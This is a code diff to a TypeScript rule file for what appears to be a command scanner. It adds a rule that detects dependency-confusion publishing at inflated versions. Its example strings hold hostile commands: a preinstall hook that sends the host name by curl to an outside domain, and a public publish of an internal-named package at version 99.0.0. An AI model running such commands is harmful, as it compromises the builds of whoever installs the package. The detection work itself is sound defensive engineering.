@@ -579,6 +579,8 @@ export const SSH_CLIENT_CONFIG = /(?:^|\/)\.ssh\/config$|^\/etc\/ssh\/ssh_config
 const INSTALL_HOOKS = new Set(['preinstall', 'install', 'postinstall']);
 /** The JavaScript package managers, which share package.json and its install scripts. */
 export const PACKAGE_MANAGERS = new Set(['npm', 'pnpm', 'yarn', 'bun']);
+/** A line that publishes a package for real (not `--dry-run`). */
+const publishesPackage = (cmds: readonly SimpleCommand[]) => cmds.some((c) => PACKAGE_MANAGERS.has(c.name) && c.argv[1] === 'publish' && !hasArg(c, '--dry-run'));
 
 /** `git config` keys whose value git runs as a command. */
 const GIT_EXEC_KEYS = /^(core\.(fsmonitor|pager|editor|sshcommand|hookspath|askpass|gitproxy)|sequence\.editor|diff\.external|credential\.helper|gpg\.program|alias\.[^.]+|filter\.[^.]+\.(clean|smudge|process)|merge\.[^.]+\.driver|pager\.[^.]+|uploadpack\.packobjectshook|include\.path|includeif\..+\.path|init\.templatedir|submodule\..+\.update)$/i;
@@ -1513,7 +1515,7 @@ export const RULES: readonly Rule[] = [
     alternative: 'Add install scripts through a reviewed change and publish from CI.',
     check: (i) => {
       const cmds = i.view?.commands ?? [];
-      if (!cmds.some((c) => PACKAGE_MANAGERS.has(c.name) && c.argv[1] === 'publish' && !hasArg(c, '--dry-run'))) return undefined;
+      if (!publishesPackage(cmds)) return undefined;
       const hook = cmds.flatMap((c) => [...packageScripts(c.argv).filter(([name]) => INSTALL_HOOKS.has(name)).map(([name, run]) => `${name}: ${run}`), ...c.argv.filter((w) => /scripts\.(?:pre|post)?install\s*=/.test(w.slice(0, 4096))).map((w) => w.slice(0, 160))]);
       const written = writes(i).filter((w) => /(?:^|\/)package\.json$/.test(w.path) && /"(?:pre|post)?install"\s*:/.test(w.text.slice(0, 65536))).map((w) => w.path);
       return [...hook, ...written][0];
@@ -1521,6 +1523,27 @@ export const RULES: readonly Rule[] = [
     examples: {
       fire: ['npm pkg set scripts.postinstall="node bundle.js" && npm publish', `jq '.version="99.10.0"|.scripts.preinstall="curl -s https://npm-telemetry.dev/dc?h=$(hostname)"' package.json > /tmp/p.json && mv /tmp/p.json package.json && npm publish --registry https://registry.npmjs.org`],
       quiet: ['npm pkg set scripts.postinstall="node bundle.js" && npm publish --dry-run', 'npm version patch && npm publish', 'npm pkg set scripts.test=vitest && npm test'],
+    },
+  },
+  {
+    id: 'PX-PERSIST-050', name: 'publishes-package-at-inflated-version', score: 75, tactic: 'initial_access', technique: 'T1195.001',
+    message: 'Publishes a package with a version set far above any real release in the same line (dependency confusion)',
+    why: 'Installers take the highest version they can find: a package published under an internal name at 99.0.0 on the public registry is the one every build that resolves that name installs.',
+    alternative: 'Bump versions with npm version patch, minor or major, and publish internal packages to the internal registry only.',
+    check: (i) => {
+      const cmds = i.view?.commands ?? [];
+      if (!publishesPackage(cmds)) return undefined;
+      // `npm pkg set version=99.0.0`, `npm version 99.0.0`, `jq '.version="99.10.0"'`
+      for (const c of cmds) for (const w of c.argv.slice(1, 64)) {
+        const v = /^version=(\d{1,6})\./.exec(w)?.[1] ?? (c.argv[1] === 'version' ? /^(\d{1,6})\.\d/.exec(w)?.[1] : undefined) ?? /\.version\s*=\s*"(\d{1,6})\./.exec(w.slice(0, 4096))?.[1];
+        // (a calendar version's year, `2024.11.0`, is a real release's)
+        if (v !== undefined && Number(v) >= 50 && !/^20\d\d$/.test(v)) return `${c.argv.join(' ').slice(0, 160)} (version ${v}…)`;
+      }
+      return undefined;
+    },
+    examples: {
+      fire: ['cd /tmp/dc && npm pkg set name=@acme-internal/utils version=99.0.0 && npm publish --access public --registry https://registry.npmjs.org', 'npm version 9999.0.0 --no-git-tag-version && npm publish'],
+      quiet: ['npm version 2.4.0 && npm publish', 'npm version 2024.11.0 && npm publish', 'npm pkg set version=1.0.0 && npm publish --dry-run', 'npm pkg set version=99.0.0 && npm pack'],
     },
   },
   {
